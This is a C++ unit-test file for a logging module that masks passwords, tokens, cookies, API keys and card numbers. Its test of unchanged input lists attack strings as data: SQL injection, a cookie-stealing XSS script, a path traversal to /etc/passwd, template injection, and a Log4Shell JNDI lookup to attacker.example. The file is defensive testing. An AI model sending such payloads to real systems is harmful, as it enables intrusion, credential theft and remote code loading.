#include "evidence/masking.h"

#include <cstdint>
#include <ctime>
#include <string>
#include <vector>

#include "base/catch.h"
#include "evidence/secret_forms.h"

namespace weir {
namespace {

struct Row {
  std::string in, out;
};

void check(const std::vector<Row>& rows) {
  for (const Row& row : rows) {
    INFO(row.in);
    CHECK(mask_text(row.in) == row.out);
  }
}

/// A key as `weir apikey generate` makes them, put together so that no scanner takes this file for a leak.
std::string own_key(const std::string& prefix = "wr") {
  return prefix + "_" + "Zk3vQ8pL1nT6yB2mX9cR4sW7" + "dF0gH5jK-aE_uI3oP8qzM";
}
std::string jwt() {
  return std::string("eyJhbGciOiJIUzI1NiJ9") + ".eyJzdWIiOiI0MiJ9" + ".c2lnbmF0dXJlLW9mLXRva2Vu";
}

}  // namespace

TEST_CASE("names of secrets are recognised in every spelling", "[alert][masking]") {
  for (const char* name : {"password",
                           "Password",
                           "user_password",
                           "user[password]",
                           "userPassword",
                           "password2",
                           "passwd",
                           "pwd",
                           "pass",
                           "passphrase",
                           "token",
                           "access_token",
                           "accessToken",
                           "ACCESS-TOKEN",
                           "csrf-token",
                           "authToken",
                           "id_token",
                           "Authorization",
                           "proxy-authorization",
                           "cookie",
                           "Set-Cookie",
                           "x-api-key",
                           "api_key",
                           "apikey",
                           "apiKey",
                           "APIKEY",
                           "X-Auth-Token",
                           "secret",
                           "client_secret",
                           "clientSecret",
                           "session",
                           "sessionid",
                           "session_id",
                           "PHPSESSID",
                           "JSESSIONID",
                           "ASPSESSIONIDQQ",
                           "connect.sid",
                           "sid",
                           "credentials",
                           "private_key",
                           "privateKey",
                           "card_number",
                           "cardNumber",
                           "cc-number",
                           "cvv",
                           "pin",
                           "otp",
                           "jwt",
                           "SAMLResponse",
                           "X-Amz-Signature",
                           "x-amz-security-token",
                           "credit_card"}) {
    INFO(name);
    CHECK(is_secret_name(name));
  }
}

TEST_CASE("ordinary names are no secrets", "[alert][masking]") {
  for (const char* name : {"",
                           "id",
                           "q",
                           "page",
                           "name",
                           "author",
                           "authors",
                           "keyboard",
                           "monkey",
                           "key",
                           "passenger",
                           "passengers",
                           "compass",
                           "bypass",
                           "tokens",
                           "max_tokens",
                           "tokenizer",
                           "secretary",
                           "sessions",
                           "pinned",
                           "spin",
                           "shipping",
                           "card",
                           "number",
                           "api",
                           "user",
                           "email",
                           "content-type",
                           "referer",
                           "user-agent",
                           "sort",
                           "inside",
                           "residence",
                           "signal",
                           "design",
                           "cookies",
                           "x-forwarded-for",
                           "accept"}) {
    INFO(name);
    CHECK_FALSE(is_secret_name(name));
  }
}

TEST_CASE("a secret shows its last four characters if it is long enough to spare them", "[alert][masking]") {
  CHECK(mask_secret("") == "***");
  CHECK(mask_secret("hunter2") == "***");
  CHECK(mask_secret("elevenchars") == "***");
  CHECK(mask_secret("twelve chars") == "***hars");
  CHECK(mask_secret("correct horse battery \xc3\xa4\xc3\xb6\xc3\xbc") == "***\xc3\xb6\xc3\xbc");
  CHECK(mask_secret("correct horse battery x\xc3\xa4\xf0\x9f\x98\x80") == "***\xf0\x9f\x98\x80");
}

TEST_CASE("secrets in queries and forms are masked", "[alert][masking]") {
  check({{"/login?user=bob&password=hunter2&next=/", "/login?user=bob&password=***&next=/"},
         {"access_token=0123456789abcdef", "access_token=***cdef"},
         {"a=1&api_key=k123456789xyz#top", "a=1&api_key=***#top"},
         {"user[password]=hunter2&x=1", "user[password]=***&x=1"},
         {"password[$ne]=hunter2", "password[$ne]=***"},
         {"password[]=hunter2&b=2", "password[]=***&b=2"},
         {"user%5Bpassword%5D=hunter2&x=1", "user%5Bpassword%5D=***&x=1"},
         {"password%5B%24gt%5D=hunter2&x=1", "password%5B%24gt%5D=***&x=1"},
         {"password=a%26b%20c&x=1", "password=***&x=1"},
         {"password=p;x", "password=***;x"},
         {"password=a\"b'c,d&x=1", "password=***&x=1"},
         {"next=%2Flogin%3Fpassword%3Dhunter2%26x%3D1", "next=%2Flogin%3Fpassword%3D***%26x%3D1"},
         {"password=&x=1", "password=&x=1"},
         {"password=", "password="},
         {"password", "password"},
         {"Token = abc123 rest", "Token = *** rest"},
         {"password==hunter2", "password==***"}});
}

TEST_CASE("secrets in JSON are masked", "[alert][masking]") {
  check({{R"({"user":"bob","password":"hunter2"})", R"({"user":"bob","password":"***"})"},
         {R"({"password" : "hun\"ter2", "x":1})", R"({"password" : "***", "x":1})"},
         {R"({"pin":1234,"x":1})", R"({"pin":***,"x":1})"},
         {R"({"pin":1234})", R"({"pin":***})"},
         {R"({"tokens":3,"token":["a","b"],"x":1})", R"({"tokens":3,"token":***,"x":1})"},
         {R"({"password":{"$eq":"hunter2"},"x":1})", R"({"password":***,"x":1})"},
         {R"({'secret': 'abcdefghijklmnop'})", R"({'secret': '***mnop'})"},
         {R"("{\"password\":\"hunter2\",\"x\":1}")", R"("{\"password\":\"***\",\"x\":1}")"},
         {"%7B%22password%22%3A%22hunter2%22%2C%22x%22%3A1%7D", "%7B%22password%22%3A%22***%22%2C%22x%22%3A1%7D"},
         {R"({"password":"never closed)", R"({"password":"***osed)"}});
}

TEST_CASE("credentials in headers are masked and their scheme stays", "[alert][masking]") {
  check({{"Authorization: Bearer abc.def-1234", "Authorization: Bearer ***1234"},
         {"authorization: Basic dXNlcjpodW50ZXIy\r\nHost: x", "authorization: Basic ***ZXIy\r\nHost: x"},
         {"authorization=Bearer abcdefgh12345678", "authorization=Bearer ***5678"},
         {R"({"authorization":"Bearer abcdefgh12345678"})", R"({"authorization":"Bearer ***5678"})"},
         {"Proxy-Authorization: Digest username=\"m\", response=\"abcdef\"", "Proxy-Authorization: Digest ***def\""},
         {"Authorization: abcdefghijklmnop", "Authorization: ***mnop"},
         {"X-Api-Key: k123456789xyz", "X-Api-Key: ***9xyz"},
         {"curl -H 'Authorization: Bearer abcdefgh12345678'", "curl -H 'Authorization: Bearer ***678'"},
         {"sent bearer abcdefgh12345678 along", "sent bearer ***5678 along"},
         {"got Basic dXNlcjpodW50ZXIy here", "got Basic ***ZXIy here"}});
}

TEST_CASE("cookies lose their values and keep their names", "[alert][masking]") {
  check({{"Cookie: a=1; theme=dark-and-blue; SID=0123456789abcdef", "Cookie: a=***; theme=***blue; SID=***cdef"},
         {"Set-Cookie: id=abcdefghijklmnop; Path=/\nX: y", "Set-Cookie: id=***mnop; Path=***\nX: y"},
         {R"({"cookie":"a=1; b=2","x":"y"})", R"({"cookie":"a=***; b=***","x":"y"})"},
         {"PHPSESSID=0123456789abcdef; theme=dark", "PHPSESSID=***cdef; theme=dark"}});
}

TEST_CASE("passwords in URLs are masked", "[alert][masking]") {
  check({{"postgres://app:s3cr3t@db:5432/x", "postgres://app:***@db:5432/x"},
         {"url=https://bob:hunter2@example.com/a@b", "url=https://bob:***@example.com/a@b"},
         {"https://bob:p@ss@example.com", "https://bob:***@example.com"},
         {"https://example.com:8443/a@b", "https://example.com:8443/a@b"},
         {"https://bob@example.com", "https://bob@example.com"}});
}

TEST_CASE("keys and tokens are masked by their form alone", "[alert][masking]") {
  for (const std::string& secret :
       {own_key(), own_key("abcd"), jwt(), std::string("AKIA") + "IOSFODNN7EXAMPLE",
        std::string("ghp_") + std::string(36, 'a'), std::string("sk_live_") + "4eC39HqLyjWDarjtT1zd",
        std::string("xoxb-") + "123456789012-abc", std::string("AIza") + std::string(35, 'S')}) {
    INFO(secret);
    const std::string shown = "***" + secret.substr(secret.size() - 4);
    CHECK(mask_text(secret) == shown);
    CHECK(mask_text("/v1/" + secret + "/items?x=1") == "/v1/" + shown + "/items?x=1");
    CHECK(mask_text("k=" + secret + "&y=2") == "k=" + shown + "&y=2");
    CHECK(mask_text("say \"" + secret + "\"") == "say \"" + shown + "\"");
    CHECK(mask_text("q=%22" + secret + "%22") == "q=%22" + shown + "%22");
  }
}

TEST_CASE("card numbers that pass the Luhn check are masked", "[alert][masking]") {
  check({{"card 4111111111111111 ok", "card ***1111 ok"},
         {"n=4111 1111 1111 1111", "n=***1111"},
         {"n=4111-1111-1111-1111&x", "n=***1111&x"},
         {"n=4111+1111+1111+1111", "n=***1111"},
         {"5500005555555559", "***5559"},
         {"2223003122003222", "***3222"},
         {"378282246310005", "***0005"},
         {"6011111111111117", "***1117"},
         {"30569309025904", "***5904"},
         {"year 2024 4111 1111 1111 1111", "year 2024 ***1111"},
         {"4111111111111112", "4111111111111112"},
         {"9111111111111111", "9111111111111111"}});
}

TEST_CASE("text without secrets stays as it is", "[alert][masking]") {
  for (const std::string text : {"",
                                 "/",
                                 "/products/1234567890123456?page=2&sort=name",
                                 "author=bob&keyboard=qwerty",
                                 "ts=1736942400123&id=1736942400456789",
                                 "550e8400-e29b-41d4-a716-446655440000",
                                 "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
                                 "id=7' UNION SELECT login,password FROM accounts--",
                                 "' OR '1'='1",
                                 "<script>alert(document.cookie)</script>",
                                 "../../../../etc/passwd",
                                 "{{7*7}}{{config.__class__.__init__.__globals__}}",
                                 "${jndi:ldap://attacker.example/x}",
                                 "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
                                 "basic training program",
                                 "the bearer of good news",
                                 "Basic authentication",
                                 "max_tokens=256",
                                 "100% of 50%2",
                                 "%",
                                 "%%%2",
                                 "a%00b%ff",
                                 "file_name_of_the_quarterly_report_final",
                                 "get_UserProfile2",
                                 "http://example.com:8080/a?b=c",
                                 "utm_source=news&utm_campaign=spring2024",
                                 "eyJ",
                                 "eyJ.eyJ.",
                                 "+49 170 1234567",
                                 "2025-01-15 12:00:00",
                                 "127.0.0.1:8080",
                                 "x[a][b][c]=1",
                                 "a=b=c",
                                 "caf\xc3\xa9 \xff\xfe"}) {
    INFO(text);
    CHECK(mask_text(text) == text);
  }
}

TEST_CASE("masking masked text changes nothing", "[alert][masking]") {
  for (const std::string text :
       {"password=hunter2&x=1", "Authorization: Bearer abc.def-1234567", "Cookie: a=1; b=0123456789abcdef",
        "access_token=0123456789abcdef", "n=4111111111111111"}) {
    INFO(text);
    CHECK(mask_text(mask_text(text)) == mask_text(text));
  }
  CHECK(mask_text(mask_text(own_key())) == mask_text(own_key()));
}

TEST_CASE("Basic credentials are recognised by what they decode to", "[alert][masking]") {
  CHECK(looks_like_basic_credentials("dXNlcjpwYXNz"));
  CHECK(looks_like_basic_credentials("dXNlcjpwYXNzdw=="));
  CHECK_FALSE(looks_like_basic_credentials("training"));
  CHECK_FALSE(looks_like_basic_credentials(""));
}

TEST_CASE("any mixture of what masking looks for is taken", "[alert][masking]") {
  const std::vector<std::string> parts{"password", "=",   ":",   "\"",    "\\",     "'",  "[",   "]",   "{",      "}",
                                       "%",        "%3D", "%22", "%5",    "cookie", "; ", "://", "@",   "<",      ">",
                                       "Bearer ",  "a1",  "eyJ", "\xff",  "\n",     "41", "+",   "***", "basic ", "&",
                                       ",",        "x_y", "$",   "token", "sk-",    ".",  " "};
  uint32_t state = 3;
  for (int round = 0; round < 20'000; ++round) {
    std::string text;
    for (int i = 0; i < 12; ++i) {
      state = state * 1664525U + 1013904223U;
      text += parts[(state >> 16) % parts.size()];
    }
    const std::string masked = mask_text(text);
    INFO(text);
    CHECK(masked.size() <= 3 * text.size() + 3);
  }
}

TEST_CASE("masking takes time linear in the text, whatever it is", "[alert][masking]") {
  const auto seconds_of = [](const std::string& part, size_t size) {
    std::string text;
    while (text.size() < size)
      text += part;
    const std::clock_t begin = std::clock();  // of the processor: a busy machine costs none
    const auto masked = mask_text(text);
    CHECK(masked.size() <= 3 * text.size());
    return static_cast<double>(std::clock() - begin) / CLOCKS_PER_SEC;
  };
  for (const char* part : {"a",   "password=", "password[",       "a[b]",       "a[b][c]=",      "basic+",   "bearer ",
                           "eyJ", "eyJ.",      "a.eyJa",          "http://",    "a:b@",          "://a:",    "4",
                           "4 ",  "4-",        "\"password\":\"", "password:{", "cookie: ",      "cookie=;", "token:",
                           "%22", "%5B",       "<password>",      "\\\"",       "password=\\\"", "wr_",      "=",
                           " ",   ";",         "cookie: a;;;"}) {
    INFO(part);
    // Some milliseconds, or seconds under a sanitizer; time that grew with the square would be a quarter of an hour.
    CHECK(seconds_of(part, 1 << 20) < 60.0);
  }
}

TEST_CASE("of a text that holds no secret nothing is written", "[alert][masking]") {
  std::string masked = "as it was";
  for (const char* text : {"", "id=7' UNION SELECT 1", "4111 1111 1111 1112", "password", "password=***", "a:b@c"})
    CHECK((!mask_text(text, masked) && mask_text(text) == text));
  CHECK(masked == "as it was");
  for (const char* text :
       {"id=7&password=hunter2hunter2", "card 4111 1111 1111 1111", "pay 4111-1111-1111-1111 pin=1234"}) {
    masked.clear();
    REQUIRE(mask_text(text, masked));
    CHECK((masked == mask_text(text) && masked != text));
  }
}

TEST_CASE("card numbers are found among other digits, and only without a gap", "[alert][masking]") {
  check({{"1 a 4111111111111111", "1 a ***1111"},
         {"4111111111111111.5", "***1111.5"},
         {"12345678 / 4111 1111 1111 1111", "12345678 / ***1111"},
         {"4222222222222", "***2222"},
         {"4111 1111 1111/1111", "4111 1111 1111/1111"},
         {"1.2.3.4.5.6.7.8.9.0.1.2.3.4.5.6", "1.2.3.4.5.6.7.8.9.0.1.2.3.4.5.6"}});
}

}  // namespace weir
